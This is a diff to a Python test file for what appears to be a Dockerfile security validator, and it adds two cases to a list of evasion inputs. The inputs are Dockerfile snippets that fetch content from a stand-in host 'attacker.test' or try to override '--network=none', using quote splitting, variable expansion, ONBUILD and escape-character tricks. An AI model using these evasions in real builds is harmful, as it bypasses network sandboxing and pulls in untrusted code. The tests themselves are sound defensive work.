@@ -70,6 +70,8 @@ def test_what_the_engine_has_is_fine(text: str) -> None:
         "FROM debian:12\nCOPY <<'' /a\nRUN x \\\n\nADD https://attacker.test/x /x\n",
         "FROM debian:12\nRUN --network=none --mount=type=bind,from=attacker.test/x,target=/m true\n",
         'FROM debian:12\nRUN --mount="type=bind,fr"om=attacker.test/x,target=/m true\n',
+        "FROM debian:12\nRUN --network=none --network=host true\n",
+        "FROM debian:12\nONBUILD RUN --network=default true\n",
         "FROM debian:12\nENV X=mount=type=bind,from=attacker.test/x,target=/m\nONBUILD RUN --$X true\n",
         "# escape=`\nFROM debian:12\nADD htt`\nps://attacker.test/x /x\n",
     ],
